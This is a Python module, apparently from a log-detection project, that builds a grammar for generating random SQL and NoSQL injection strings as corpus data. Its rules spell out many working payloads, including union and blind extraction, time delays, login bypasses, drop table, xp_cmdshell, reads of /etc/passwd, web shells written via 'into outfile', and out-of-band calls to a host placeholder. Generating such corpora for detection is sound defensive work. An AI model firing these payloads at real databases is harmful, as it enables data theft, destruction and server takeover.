"""SQL and NoSQL injection by grammar: break out of the value, do something, make the rest of the statement harmless."""

from __future__ import annotations

from typing import Final

from weirlog.models.corpus.bare_forms import SQL_FORMS
from weirlog.models.corpus.evasions import QUERY_EVASIONS
from weirlog.models.corpus.grammar import Chance, Grammar, Rules
from weirlog.models.corpus.terminals import TERMINALS


def _char_calls(chance: Chance) -> str:
    """Return a marker spelt as numbers, as probes do to need no quotes."""
    codes = [str(chance.number(97, 122)) for _ in range(chance.number(2, 7))]
    match chance.number(0, 4):
        case 0:
            return "+".join(f"char({code})" for code in codes)
        case 1:
            return "||".join(f"chr({code})" for code in codes)
        case 2:
            return f"char({','.join(codes)})"
        case 3:
            return "0x" + "".join(f"{int(code):x}" for code in codes)
    return f"concat({','.join(f'char({code})' for code in codes)})"


def _nulls(chance: Chance) -> str:
    item = chance.pick(("null", "null", "null", "1", "'a'", "@@version", "count", str(chance.number(1, 9999))))
    if item == "count":
        return ",".join(str(place) for place in range(1, chance.number(2, 14)))
    items = [item] * chance.number(1, 16)
    if chance.maybe(0.5):
        items[chance.number(0, len(items) - 1)] = chance.pick(
            ("user()", "version()", "@@version", "database()", "table_name", "concat(user,0x3a,password)", "banner",
             "group_concat(table_name)", "column_name", "password", "load_file('/etc/passwd')", _char_calls(chance), "sql")
        )  # fmt: skip
    return chance.pick((",", ", ", ",", " , ")).join(items)


def _same(chance: Chance) -> str:
    """Return a comparison of a thing with itself, or one that is false: the two halves of a blind probe."""
    number = str(chance.number(1, chance.pick((9, 99, 9999))))
    other = number if chance.maybe(0.7) else str(chance.number(1, 9999))
    text = chance.letters("abcdefghijklmnopqrstuvwxyz", 1, 6)
    return chance.pick(
        (f"{number}={other}", f"{number}={other}", f"{number} = {other}", f"{number}={other}", f"'{number}'='{other}",
         f"'{text}'='{text}", f'"{text}"="{text}', f"'{number}'='{other}'", f"{number} like {other}", f"{number}<{other}0",
         f"{number} between 0 and {other}", f"'{text}' like '{text[:1]}%", "true", "not false", f"'{text}'>'",
         f"({number})=({other})", f"'{text}' in ('{text}')", f"{number} is not null", "''=''", f"'{text}'<>'", f"{number}!={other}1",
         f"'{text}'||'{text}'='{text}{text}")
    )  # fmt: skip


_SQL: Final[Rules] = {
    "sqli": ["«inband»", "«inband»", "«blind»", "«blind»", "«timed»", "«union»", "«union»", "«error»", "«stacked»", "«login»", "«misc»", "«short»", "«short»", "«bare_statement»", "«bare_statement»", "«quoted_sum»", "«bare_test»", "«bare_test»"],
    "same": _same,
    "nulls": _nulls,
    "marker": _char_calls,
    "before": ["«n»", "«small»", "«d»", "-«nn»", "«word»", "", "", "«value»", "«rnd»", "«word» «word»", "«name»", "«email»", "%", "null", "«date»"],
    "close": ["'", "'", "'", "\"", "\"", "')", "'))", "\")", ")", "))", "%'", "%\")", "'||'", "`", "];", "\\'", "')))", "%')", "';", "’"],
    "out": ["«before»«close»", "«before»«close»", "«before»«close»", "«n»"],
    "close_quoted": ["'", "'", "'", "\"", "')", "'))", "\")", "%'"],
    "s": [" ", " ", " ", " ", " ", "/**/", "/**/", "+", "\t", "\n", "  ", "%20", "/*«rnd»*/", "/*!*/", "\r\n", "\u00a0", "%0a", "(", " /**/ "],
    "g": [" ", " ", " ", " ", " ", " ", "/**/", "+", "\n", "%09"],
    "end": ["--", "-- ", "-- -", "#", "--+", "/*", "", ";--", "; -- «rnd»", "-- «rnd»", ";%00", "#«rnd»", "--«g»", " and '1'='1", "or '", " and ('a'='a",
            " and \"«d»\"=\"«d»", " and '%'='", "/*«rnd»", ";", "«g»limit 1--", "«g»and«g»(«d»=«d»", "", "-- «nn»"],
    "comment": ["--", "-- -", "#", "/*", ";--", "--+", "-- «rnd»", ";#"],
    "logic": ["or", "or", "and", "and", "||", "&&", "xor", "or not", "and not", "|", "^", "&", "div", "rlike"],
    "short": ["«word»«g»«logic_word»«g»«nn»=«nn»", "«n»«g»«logic_word»«g»«nn»=«nn»«end»", "«before»'or'«d»='«d»", "«word»'or'«rnd»'='«rnd»", "«before»«g»or«g»«d»=«d»", "«word» or «rnd»=«rnd»", "or a = a", "or x=x", "«before»«g»order«g»by«g»«small»", "order by «small»--",
              "«n»«g»union«g»«all»select«g»«n»", "«n»«g»union«g»«all»select«g»«secret»,«secret»«from»", "«n»«g»union«g»«all»select«g»«noun»,«noun»«g»from«g»«noun»s", "union«g»«all»select«g»«nulls»", "union«g»«all»select«g»«noun»«g»from«g»«tables»", "«word»'«g»union«g»select«g»«noun»,«noun»«g»from«g»«noun»s--", "«before»'«g»«action»",
              "«n»; «action»--", "«n»;«action»", "select * from «tables»--", "select«g»«secret»«g»from«g»information_schema.tables", "«user»'--", "«user»'-- ", "' or '«d»'='«d»", "\" or \"«d»\"=\"«d»", "1 or 1=1", "' or 1=1--", "«before»' and «nn»=«nn»", "«before») and («nn»=«nn»", "«before» and «nn»=«nn»-- «rnd»", "«n» and rownum=rownum",
              "«word»«g»and«g»sleep(«d»)", "«sub»", "case«g»when«g»«noun»=0x«hex»«g»then«g»1«g»else«g»0«g»end", "select name,tbname from sysibm.syscolumns", "«word» and 1=«d»", "-«nn»«g»union«g»«all»select«g»«nulls»--", "«n»'«g»union«g»select«g»«nulls»#"],
    "logic_word": ["and", "or", "and", "and not"],
    "inband": ["«out»«s»«logic»«s»«same»«end»", "«out»«s»«logic»«s»«same»«end»", "«out»«logic»«g»«same»«end»",
               "«out»«s»«logic»«s»«same»«g»«logic»«g»«same»«end»", "«before»«close_quoted»«s»«logic»«s»(«same»)«end»",
               "«out»«s»group«g»by«s»«columns»«g»having«g»«same»«end»", "«out»«s»order«g»by«s»«small»«end»",
               "«before»«close_quoted»«s»«comment»", "«before»' or ''='", "«before»'='", "«before»'-'", "«before»' or 1 -- ", "«before»'|'«before»"],
    "columns": ["«noun»", "users.id", "1", "«small»", "x.y"],
    "tables": ["users", "information_schema.tables", "information_schema.columns", "mysql.user", "dual", "pg_catalog.pg_user", "sysobjects", "all_tables",
               "sqlite_master", "admin", "«noun»s", "«noun»", "wp_users", "pg_shadow", "msysaccessobjects", "sys.databases", "syscolumns", "v$version",
               "rdb$database", "sysibm.sysdummy1", "master..sysdatabases", "customers", "accounts", "members", "pg_tables", "domain.columns"],
    "secret": ["password", "user()", "version()", "@@version", "database()", "current_user", "@@hostname", "table_name", "passwd", "name", "schema_name",
               "system_user", "banner", "pass", "«noun»", "*", "count(*)", "username||':'||password", "top 1 name", "group_concat(«noun»)", "sql",
               "current_database()", "db_name()", "@@datadir", "sqlite_version()", "user", "string_agg(«noun»,',')", "concat_ws(0x3a,«noun»,pass)",
               "load_file(0x«hex»)", "«marker»", "schema()", "sys_context('userenv','db_name')", "xmlagg(xmlelement(e,«noun»))"],
    "from": ["«g»from«g»«tables»", "«g»from«g»«tables»", "", "«g»from«g»«tables»«g»where«g»«same»", "«g»from«g»«tables»«g»limit«g»«d»,1",
             "«g»from(«tables»)", "«g»from«g»«tables»«g»where«g»«noun»='«word»'", "«g»from«g»«tables»«g»limit«g»1«g»offset«g»«d»"],
    "sub": ["(select«g»«secret»«from»)", "(select«g»«secret»«from»)", "(select«g»case«g»when«g»(«same»)«g»then«g»1«g»else«g»0«g»end)",
            "(select(«secret»)from(«tables»))", "(select«g»distinct(«secret»)«from»)", "(select«g»top«g»1«g»«secret»«from»)"],
    "blind": [
        "«out»«s»«logic»«s»«test»«end»", "«out»«s»«logic»«s»«test»«end»", "«out»«s»«logic»«s»not«g»«test»«end»",
        "(select«g»(case«g»when«g»(«same»)«g»then«g»«before»«g»else«g»«sub»«g»end))", "«out»«s»«logic»«s»if(«test»,«d»,«d»)«end»",
        "«before»«g»rlike«g»(select«g»(case«g»when«g»(«same»)«g»then«g»«d»«g»else«g»0x28«g»end))«end»", "if(«test»,«n»,«sub»)", "«n»-if(«test»,0,1)",
        "iif(«same»,«n»,1/0)", "case«g»when«g»«test»«g»then«g»«noun»«g»else«g»«noun»«g»end", "(case when «test» then «noun» else (select 1 union select 2) end)",
        "«before»'«g»and«g»(select«g»1«from»)=1«end»", "make_set(«nn»=«nn»,«nn»)", "«out»«s»procedure«g»analyse(extractvalue(«nn»,concat(0x5c,«marker»)),1)«end»",
    ],
    "test": ["«same»", "substring(«sub»,«d»,1)='«d»'", "ascii(substr(«sub»,«d»,1))>«n»", "exists«sub»", "length(«sub»)=«small»", "mid(«sub»,«d»,1)=char(«small»)",
             "ord(mid(«sub»,«small»,1))>«small»", "«nn»=«sub»", "(«sub»)like'«d»%'", "unicode(substring(«sub»,«d»,1))>«n»", "«secret»«g»like«g»'«d»%'",
             "«sub»>0", "bitand(«n»,«n»)=«n»", "«noun»«g»is«g»null", "«noun»='«word»'", "hex(«sub»)>0", "1=(«sub»)", "lower(«secret»)='«word»'", "ascii(«secret»)=«n»",
             "substr(@@version,1,1)='5'", "«nn»=cast(«marker» as int)", "row(«nn»,«nn»)>(select count(*),concat(«marker»,floor(rand(0)*2))x from «tables» group by x)",
             "regexp_like(«secret»,'^«d»')", "elt(«nn»=«nn»,«nn»)", "«marker»=«marker»", "strcmp(«secret»,'«d»')=1", "left(«sub»,1)='«d»'", "user regexp '^[«d»-z]'"],
    "wait": ["sleep(«d»)", "sleep(«d»)", "benchmark(«n»,md5(«d»))", "pg_sleep(«d»)", "waitfor«g»delay«g»'0:0:«d»'", "dbms_pipe.receive_message('«rnd»',«d»)",
             "dbms_lock.sleep(«d»)", "randomblob(«n»00000)", "(select«g»sleep(«d»))", "(select(0)from(select(sleep(«d»)))«rnd»)", "utl_inaddr.get_host_address('«host»')",
             "(select«g»count(*)«g»from«g»all_users«g»t1,all_users«g»t2,all_users«g»t3)", "waitfor delay '00:00:0«d»'", "like('abcdefg',upper(hex(randomblob(«n»00))))",
             "(select * from (select(sleep(«d»)))«rnd»)", "(select«g»«nn»«g»from«g»pg_sleep(«d»))", "generate_series(1,«n»0000)", "benchmark(5000000,sha1(char(«small»)))",
             "master..xp_dirtree '//«host»/a'", "regexp_substring(repeat(right(char(«small»),0),«n»),null)"],
    "timed": ["«out»«s»«logic»«s»«wait»«end»", "«out»«s»«logic»«s»«wait»«end»", "«out»;«g»«wait_statement»«end»", "«out»«g»«wait_statement»«end»",
              "«out»«s»«logic»«s»if(«same»,«wait»,0)«end»", "«out»«s»«logic»«s»«nn»=(select«g»«nn»«g»from«g»«wait»)«end»", "«wait»", "«wait»#",
              "«before»-«wait»", "«out»||«wait»||'", "«before»'+(select*from(select(«wait»))a)+'", "if(now()=sysdate(),«wait»,0)", "«before»'xor(if(now()=sysdate(),«wait»,0))xor'z",
              "(select case when («same») then «wait» else «d» end)", "«out»«s»«logic»«s»(select«g»«d»«g»from«g»(select«g»«wait»)«rnd»)«end»"],
    "wait_statement": ["waitfor«g»delay«g»'0:0:«d»'", "select«g»«wait»", "call«g»sleep(«d»)", "select«g»pg_sleep(«d»)", "exec«g»master..xp_cmdshell«g»'ping«g»«ip»'",
                       "begin dbms_lock.sleep(«d»); end", "declare @«rnd» int; waitfor delay '0:0:«d»'", "if(«same») waitfor delay '0:0:«d»'"],
    "all": ["", "", "all«g»", "all«g»", "distinct«g»"],
    "union": ["«out»«s»union«s»«all»select«s»«nulls»«from»«end»", "«out»«s»union«s»«all»select«s»«nulls»«end»", "«out»«g»union«g»«all»select«g»«nulls»«from»«end»",
              "«out»«s»union«s»«all»select«s»«secret»,«nulls»«from»«end»", "«out»«s»union(select«s»«nulls»«from»)«end»", "«out»«s»union«s»(select(«d»),(«d»),(«secret»))«end»",
              "«out»/*!«nn»0union*//*!«nn»0select*/«nulls»«from»«end»", "«out»«s»intersect«g»select«g»«nulls»«from»«end»", "«out»«s»limit«g»«d»«g»union«g»select«g»«nulls»«end»",
              "«out»«s»union«s»«all»select«s»*«from»«end»", "«out»«s»uni/**/on«s»sel/**/ect«s»«nulls»«from»«end»", "«out»«s»ununionion«s»selselectect«s»«nulls»«end»",
              "«out»«s»union«s»«all»select«s»«nulls»«g»into«g»outfile«g»'/var/www/«word».php'«end»", "«out»«s»and«g»0«g»union«g»select«g»«nulls»«from»«end»",
              "«out»«s»union«g»values(«nulls»)«end»", "«out»e0union«g»select«g»«nulls»«end»", "«out»«g»except«g»select«g»«secret»«from»«end»"],
    "error": ["«out»«s»«logic»«s»extractvalue(«nn»,concat(0x7e,«sub»))«end»", "«out»«s»«logic»«s»updatexml(1,concat(0x7e,«sub»,0x7e),1)«end»",
              "«out»«s»«logic»«s»(select«g»«nn»«g»from(select«g»count(*),concat(«marker»,«sub»,floor(rand(0)*2))x«g»from«g»«tables»«g»group«g»by«g»x)a)«end»",
              "«out»«s»«logic»«s»«nn»=convert(int,«sub»)«end»", "«out»«s»«logic»«s»«nn»=cast((«marker»)||«sub»::text||(«marker») as numeric)«end»", "«out»«s»«logic»«s»«nn»«g»in«g»((«sub»))«end»",
              "«out»«s»«logic»«s»«nn»=ctxsys.drithsx.sn(«nn»,«sub»)«end»", "convert(int,«sub»)", "cast(«sub» as int)", "«before»||(«sub»)||", "«before»'||«sub»||'", "«before»'+«sub»+'", "«out»«s»«logic»«s»exp(~(select*from«sub»a))«end»",
              "«out»«s»«logic»«s»gtid_subset(concat(«marker»,«sub»),«nn»)«end»", "«out»«s»«logic»«s»json_keys((select convert((«sub») using utf8)))«end»", "extractvalue(xmltype('<?xml version=\"1.0\"?><!doctype r [<!entity % x system \"http://«host»/\">%x;]>'),'/l')",
              "«out»«s»«logic»«s»utl_inaddr.get_host_name(«sub»)=1«end»", "«out»«s»«logic»«s»«nn»=(select«g»upper(xmltype(chr(60)||chr(58)||«marker»))«g»from«g»dual)«end»"],
    "stacked": ["«n» offset «d»;«g»«action»", "«noun»;«g»«action»", "«noun» desc;«g»«action»", "«n»;«g»«action»", "«before»';«g»«action»;--", "«before»'; update «noun»s set «noun»=«n» where «noun»='«word»", "«out»;«g»«action»«end»", "«out»;«g»«action»«end»", "«out»;«action»;«action»«end»", "«before»«close_quoted»);«g»«action»«end»", ";«action»", "«out»«g»«action»«end»"],
    "action": ["drop«g»table«g»«noun»s", "insert«g»into«g»«noun»s«g»values(«nulls»)", "insert into users(name,role) values('«word»','admin')", "update«g»«noun»s«g»set«g»«noun»='«word»'", "delete«g»from«g»«noun»s",
               "shutdown", "exec«g»xp_cmdshell«g»'dir'", "exec master..xp_cmdshell 'net user'", "exec sp_configure 'show advanced options',1", "truncate«g»table«g»«noun»", "declare«g»@«rnd»«g»varchar(«n»)", "select«g»«secret»«from»",
               "create user «word» identified by '«word»'", "grant all privileges on *.* to '«word»'", "copy «noun» from program 'id'", "select «wait»", "exec('«word»')", "alter«g»table«g»«noun»s«g»drop«g»column«g»«noun»",
               "select load_extension('//«host»/a')", "attach database '/var/www/«word».php' as «word»", "execute immediate '«sub»'", "set @«rnd»=0x«hex»;prepare «rnd» from @«rnd»", "select pg_read_file('/etc/passwd')",
               "create or replace function «word»() returns int as 'libc.so.6','system'", "drop database «word»", "commit", "backup database «word» to disk='\\\\«ip»\\a'", "begin execute immediate 'drop user «word»'; end", "select 1 into dumpfile '/tmp/«word»'"],
    "login": ["«user»'--", "«user»' #", "«user»'/*", "«user»' or '«d»'='«d»", "«user»' or «d»=«d»--", "«user»') or ('«d»'='«d»", "«user»\" or \"a\"=\"a", "' or 1=1--", "') or 1=1 #", "\" or \"\"=\"", "«user»' or 'x'='x'#", "' or username like '%«user»%",
              "«user»' and password like '%", "' or true--", "1' or '1'='1' limit 1;#", "«user»'||'1'='1", "'or'«word»'='«word»", "«user»') --", "' or uid is not null or '", "hi') or ('a'='a", "x' or full_name like '%«first»%", "'=0--+", "' or 2 > 1 --",
              "«user»'; --", "' oorr 1=1 --", "«user»' and 1=0 union all select '«user»', '«hex»", "a' or 3=3--", "' or ''&'", "' or ''*'", "'^'", "'*'", "\\' or 1=1 -- ", "¿' or 1=1-- "],
    "user": ["admin", "root", "administrator", "«first»", "«email»", "«word»", "test", "guest", "sa", "«invented»"],
    "misc": ["«out»«s»into«g»outfile«g»'/var/www/html/«word».php'«end»", "load_file('/etc/passwd')", "«out»«s»«logic»«s»load_file(concat('\\\\\\\\',«sub»,'.«host»\\\\a'))«end»", "«sub»", "«sub»", "@@version", "version()--",
             "«out»,«sub»,'«end»", "«noun»,«sub»", "«noun»«g»limit«g»«d»«g»offset«g»«sub»", "'+or+'1'='1", "«before»'«g»like«g»'%", "«before»'and(«same»)and'«d»'='«d»", "«before»'%2b(«sub»)%2b'", "«n»«g»and«g»«test»", "«n»«g»or«g»«same»", "«n»)«g»or«g»(«same»",
             "«out»«s»procedure«g»analyse()«end»", "(«sub»)", "«before»'«g»collate«g»nocase«g»or«g»'1", "1;«action»", "«n»/(select«g»0)", "«n»*(«sub»)", "1 and (select * from users) = 1", "sel'||'ect", "exec(char(«small»)+char(«small»)+char(«small»))", "'+exec('se'+'lect «d»')+'",
             "'; exec('sel' + 'ect us' + 'er')--", "concat('sel','ect')", "«before»' or 'sim'+'ple'='simple", "«before»' or 'te'||'st'='test'--", "declare @s varchar(«n») set @s=cast(0x«hex» as varchar) exec(@s)", "«before»\\\" or 1=1 --", "«before»%bf%27 or 1=1 --", "«before»' regexp '^a"],
}  # fmt: skip

_NOSQL: Final[Rules] = {
    "nosqli": ["«json_operator»", "«json_operator»", "«javascript»", "«javascript»", "«bracket»", *["«written»"] * 3, *["«script_query»"] * 3, "«graph»", "«search»"],
    "json_operator": ["{\"$in\":[\"«word»\",\"admin\"]}", "{\"$in\":[\"\",null]}", "{\"$not\":{\"$eq\":\"\"}}", "{\"$nor\":[{\"a\":1}]}", "{\"$type\":2}", "{\"$mod\":[1,0]}", "{\"$size\":0}", "{\"$options\":\"i\",\"$regex\":\".*\"}", "{\"$all\":[]}", "{$nin:[]}", "{\"$ne\": null}", "{\"$gt\":\"\"}", "{\"$ne\":\"«word»\"}", "{\"$regex\":\"^«d».*\"}", "{\"$where\":\"sleep(«n»)\"}", "{\"$nin\":[\"«word»\"]}", "{\"$or\":[{},{\"a\":\"a\"}]}", "{\"$exists\":true}",
                      "{$gt:''}", "{$ne:1}", "'; return true; var a='", "\", $or: [ {}, { \"a\":\"a", "', $or: [ {}, {'a':'a' } ], $comment:'«word»", "true, $where: '1 == 1'", ", $where: '«d» == «d»'", "$where: '«d» == «d»'", "{ $where: 'this.«noun» == this.«noun»' }",
                      "{\"$func\":\"var_dump\"}", "{\"$expr\":{\"$eq\":[1,1]}}", "'}, {$set:{role:'admin'}}, {'", "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", "{\"$gte\":\"\"}", "{\"$eq\":{\"$ne\":1}}", "[$ne]=1"],
    "javascript": ["' || '1'=='1", "' || 1==1//", "' && this.password.match(/.*/)//+%00", "';sleep(«n»);'", "'; while(true){}'", "\"; return true; //", "' || this.«noun» != '", "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<«n»)",
                   "' || true || '", "\" || \"\"==\"", "'||'a'=='a", "function(){return true}", "this.«noun»=='«word»'||1==1", "'; return this.«noun» != '", "1; return true", "'%20%26%26%20this.password.match(/.*/)//", "db.«noun»s.find()", "db.injection.insert({success:1});",
                   "';return(this.«noun».length>«d»);//", "' && this.«noun».charAt(0)=='«d»'//", "d' || 'a'=='a' || '", "';db.dropDatabase();//", "$where=function(){sleep(«n»)}", "'||this.constructor.constructor('return 1')()||'", "0; sleep(«n»)//"],
    "bracket": ["[$ne]", "[$gt]", "[$regex]", "[$where]", "[$nin][]", "[$exists]", "[$lt]", "[$or][0][a]"],
}  # fmt: skip

SQL_GRAMMAR: Final = Grammar(TERMINALS, SQL_FORMS, QUERY_EVASIONS, _SQL, _NOSQL)


def sql_injection(chance: Chance) -> str:
    return SQL_GRAMMAR.draw(chance, "sqli")


def nosql_injection(chance: Chance) -> str:
    return SQL_GRAMMAR.draw(chance, "nosqli")
